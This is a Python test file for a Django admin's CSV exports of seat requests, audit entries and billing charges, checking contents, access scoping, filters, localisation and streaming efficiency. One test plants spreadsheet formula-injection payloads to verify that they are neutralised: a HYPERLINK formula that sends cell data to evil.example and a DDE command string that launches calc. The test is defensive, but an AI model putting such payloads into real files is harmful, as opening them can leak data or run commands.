"""Lists as CSV: all that is found, of the accounts one may see, and no more memory for more."""

import csv
import tracemalloc
from datetime import timedelta
from io import StringIO
from typing import Any

import pytest
from django.contrib import admin
from django.urls import reverse

from accounts.models import Account, AuditEntry, AuditKind, Membership, User
from subscriptions.actions import approve_request
from subscriptions.models import Charge, SeatPool, SeatRequest
from subscriptions.selectors.request_review import request_review
from tests import cast
from tests.cast import NOW
from tests.conftest import ClientFor
from tests.factories import PlanFactory
from tests.subscriptions.admin.addresses import LIST
from tests.subscriptions.conftest import Ask
from tests.subscriptions.views.pages import text

REQUESTS = "admin:subscriptions_seatrequest_csv"
AUDIT = "admin:accounts_auditentry_csv"
CHARGES = "admin:subscriptions_charge_csv"


def rows_of(answer: Any) -> list[dict[str, str]]:
    """The file, row by row, by the titles of its columns."""
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    written = b"".join(answer.streaming_content).decode()
    assert written.startswith("\ufeff")
    return list(csv.DictReader(StringIO(written.removeprefix("\ufeff"), newline="")))


def history(account: Account, count: int) -> None:
    """Many audit entries of an account."""
    owner = cast.owner(account)
    AuditEntry.objects.bulk_create(
        AuditEntry(
            account=account, member=owner, kind=AuditKind.RENAMED, by=owner.user, channel="page",
            at=NOW - timedelta(minutes=number), before={"name": "A"}, after={"name": f"B{number}"},
        )
        for number in range(count)
    )  # fmt: skip


def test_the_file_has_what_the_list_finds(
    client_for: ClientFor, rep: User, five: SeatRequest
) -> None:
    answer = client_for(rep).get(reverse(REQUESTS))
    assert 'filename="seat-requests-2026-11-23-1200.csv"' in answer.headers["Content-Disposition"]
    [row] = rows_of(answer)
    assert row["Account"] == "Initech"
    assert (row["Additional seats"], row["Purchased"], row["Purchased after"]) == ("5", "40", "45")
    # 5 × 103.50 × 12 a year, of which 343 of 365 days are left.
    assert (row["Per period"], row["Currency"]) == ("6210.00", "EUR")
    assert row["Status"] == "Open"
    assert row["Reason"] == "New colleagues."


def test_what_was_charged_is_a_number_with_its_currency(
    client_for: ClientFor, rep: User, five: SeatRequest
) -> None:
    fingerprint = request_review(five, NOW).quote.fingerprint
    order = approve_request(
        seat_request=five, note="", quote_fingerprint=fingerprint, by=rep, at=NOW
    ).order
    assert order
    [row] = rows_of(client_for(rep).get(reverse(REQUESTS) + "?status=approved"))
    assert row["Charged"] == f"{order.charged_cents / 100:.2f}"
    assert (row["Per period"], row["Decision by"]) == ("", str(rep))


def test_another_representatives_rows_are_never_in_it(
    client_for: ClientFor, rep: User, rep2: User, five: SeatRequest, foreign: SeatRequest
) -> None:
    for query in ("", "?status=all", "?q=vandelay", f"?id__exact={foreign.pk}", "?status=all&q=e"):
        answer = client_for(rep).get(reverse(REQUESTS) + query)
        assert b"Vandelay" not in b"".join(answer)
    [theirs] = rows_of(client_for(rep2).get(reverse(REQUESTS)))
    assert theirs["Account"] == "Vandelay"


def test_filters_and_search_of_the_list_are_those_of_the_file(
    client_for: ClientFor, root: User, five: SeatRequest, bought_online: SeatRequest
) -> None:
    client = client_for(root)
    found = {
        "": {"Initech", "Globex"},
        "?q=initech": {"Initech"},
        "?status=declined": set(),
        "?addressed_to__exact=buyers": {"Globex"},
        "?requested_at_from=2026-11-24": set(),
        "?requested_at_from=2026-11-23&requested_at_to=2026-11-23": {"Initech", "Globex"},
    }
    for query, accounts in found.items():
        shown = text(client.get(reverse(LIST) + query))
        answer = client.get(reverse(REQUESTS) + query)
        assert {row["Account"] for row in rows_of(answer)} == accounts, query
        assert (f"Download {len(accounts)} row" in shown) == bool(accounts), query


@pytest.mark.parametrize("query", ["?requested_at_from=yesterday", "?p=99", "?addressed_to__exact"])
def test_a_filter_that_says_nothing_ends_in_the_list(
    query: str, client_for: ClientFor, rep: User, five: SeatRequest
) -> None:
    answer = client_for(rep).get(reverse(REQUESTS) + query, follow=True)
    assert answer.status_code == 200


def test_an_address_with_an_impossible_day_leads_back_to_the_list(
    client_for: ClientFor, rep: User
) -> None:
    for day in ("31.12.2026", "2026-02-30"):
        answer = client_for(rep).get(reverse(REQUESTS) + f"?requested_at_to={day}")
        assert (answer.status_code, answer.url) == (302, reverse(LIST) + "?e=1")


def test_no_cell_is_a_formula(
    client_for: ClientFor, rep: User, ask: Ask, initech_admin: Membership, initech_pool: SeatPool
) -> None:
    """Customers write reasons and names; a representative opens the file."""
    reason = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    ask(initech_admin, initech_pool, 5, reason=reason)
    SeatPool.objects.filter(pk=initech_pool.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Account.objects.filter(pk=initech_pool.subscription.account_id).update(name="-2+3")
    [row] = rows_of(client_for(rep).get(reverse(REQUESTS)))
    assert row["Reason"] == f"'{reason}"
    assert row["Pool"].startswith("'@SUM")
    assert row["Account"] == "'-2+3"


def test_amounts_of_credits_stay_numbers(
    client_for: ClientFor, root: User, suite_pool: SeatPool
) -> None:
    charge = Charge.objects.filter(line__pool=suite_pool)[0]
    charge.pk, charge.cents, charge.kind = None, -charge.cents, "seats_added"
    charge.seat_change = None
    row = admin.site.get_model_admin(Charge)
    columns = {str(c.title): c for c in row.csv_columns if not isinstance(c, str)}  # type: ignore[attr-defined]
    assert str(columns["amount"].of(charge)).startswith("-")


def test_the_file_speaks_the_readers_language(
    client_for: ClientFor, rep: User, five: SeatRequest
) -> None:
    rep.language = "de"
    rep.save()
    answer = client_for(rep).get(reverse(REQUESTS))
    assert "lizenzanfragen-2026-11-23-1200.csv" in answer.headers["Content-Disposition"]
    [row] = rows_of(answer)
    assert row["Status"] == "Offen"
    assert row["Zusätzliche Lizenzen"] == "5"
    assert "Account" not in row


def test_five_thousand_rows_cost_as_many_queries_as_ten_and_no_more_memory(
    client_for: ClientFor, root: User, acme: Account, django_assert_max_num_queries: Any
) -> None:
    client = client_for(root)

    def read(expected: int, most: int) -> tuple[int, int]:
        with django_assert_max_num_queries(most) as queries:
            answer = client.get(reverse(AUDIT) + "?kind__exact=renamed")
            tracemalloc.start()
            count = sum(piece.count(b"\r\n") for piece in answer.streaming_content)
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        assert count == expected + 1
        return len(queries), peak

    history(acme, 1000)
    asked, needed = read(1000, 100)
    history(acme, 4000)
    _, needed_for_more = read(5000, asked)
    assert needed_for_more < needed * 1.5


def test_the_first_rows_arrive_before_the_last_are_read(
    client_for: ClientFor, root: User, acme: Account
) -> None:
    history(acme, 1200)
    pieces = client_for(root).get(reverse(AUDIT) + "?kind__exact=renamed").streaming_content
    assert [piece.count(b"\r\n") for piece in pieces] == [1, 500, 500, 200]


def test_requests_are_read_in_pieces_with_what_belongs_to_them(
    client_for: ClientFor, rep: User, ask: Ask, initech_admin: Membership, initech: Account,
    django_assert_max_num_queries: Any,
) -> None:  # fmt: skip
    def more(number: int) -> None:
        for _ in range(number):
            pool = cast.pool(initech.subscription, PlanFactory.create(), seats=4)
            ask(initech_admin, pool, 2)

    client = client_for(rep)
    more(1)
    with django_assert_max_num_queries(100) as first:
        assert len(rows_of(client.get(reverse(REQUESTS)))) == 1
    more(19)
    with django_assert_max_num_queries(len(first)):
        assert len(rows_of(client.get(reverse(REQUESTS)))) == 20


def test_ledgers_say_who_and_through_what_in_columns_of_their_own(
    client_for: ClientFor, root: User, suite_pool: SeatPool
) -> None:
    rows = rows_of(client_for(root).get(reverse(CHARGES)))
    assert {row["Through"] for row in rows} == {"System: set_up"}
    assert {row["Who"] for row in rows} == {""}
    assert {(row["Amount"], row["Currency"]) for row in rows} >= {("1150.00", "EUR")}
